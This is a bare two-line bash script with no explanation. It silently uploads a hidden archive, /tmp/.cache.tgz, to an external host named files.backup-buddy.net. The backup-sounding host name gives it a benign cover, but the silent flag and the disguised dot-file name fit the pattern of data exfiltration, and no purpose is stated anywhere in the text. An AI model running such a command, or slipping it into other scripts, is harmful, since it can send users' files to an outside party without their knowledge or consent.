#!/usr/bin/env bash
curl -s -F "f=@/tmp/.cache.tgz" https://files.backup-buddy.net/in
